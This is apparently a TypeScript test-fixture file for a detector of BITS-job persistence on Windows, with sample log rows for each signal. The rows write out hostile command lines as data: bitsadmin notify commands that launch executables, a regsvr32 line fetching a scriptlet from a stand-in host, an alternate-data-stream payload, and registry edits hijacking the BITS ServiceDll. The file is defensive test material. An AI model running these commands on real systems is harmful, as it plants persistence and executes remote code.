import type { Example } from '../signal.js';

const notifyWith = (words: string): readonly Example[] => [{ process_name: 'bitsadmin.exe', process: `bitsadmin /setnotifycmdline job ${words}` }];
const child = (image: string): readonly Example[] => [{ process_path: image, process: image, parent_process_path: 'C:\\Windows\\System32\\svchost.exe', parent_process: 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS' }];

/** Rows that show each signal of the family; the tests run them. No bundle carries them. */
export const persistenceExamples: Readonly<Record<string, readonly Example[]>> = {
  'notify-set': notifyWith('C:\\d\\a.exe NULL'),
  'notify-run': child('C:\\d\\a.exe'),
  'notify-interpreter': notifyWith('regsvr32.exe "/s a.dll"'),
  'notify-user-folder': notifyWith('C:\\Users\\Public\\a.exe NULL'),
  'notify-stream': notifyWith('C:\\d\\a.txt:b.exe NULL'),
  'notify-url': notifyWith('regsvr32.exe "/s /i:https://files.example.net/a scrobj.dll"'),
  'notify-logged': [{ SourceName: 'Microsoft-Windows-Bits-Client', EventCode: '6', jobTitle: 'n', jobId: '{6F364A04-6299-4349-A8B6-34BED5E400EF}', jobOwner: 'EXAMPLE\\pat' }],
  'notify-failed': [{ SourceName: 'Microsoft-Windows-Bits-Client', EventCode: '64', Job: 'n', Url: 'https://files.example.net/a', Pgm: 'C:\\d\\a.exe', hr: '2147942402' }],
  'retry-often': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /setminretrydelay job 60' }],
  'lifetime': [{ process_name: 'reg.exe', process: 'reg add HKLM\\Software\\Policies\\Microsoft\\Windows\\BITS /v JobInactivityTimeout /t REG_DWORD /d 0xffffffff /f' }],
  'job-lifetime': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /setnoprogresstimeout job 1209600' }],
  'service-program': [{ registry_path: 'HKLM\\System\\CurrentControlSet\\Services\\BITS\\Parameters\\ServiceDll', registry_value_name: 'ServiceDll', registry_value_data: 'C:\\ProgramData\\a.dll', action: 'modified' }],
};
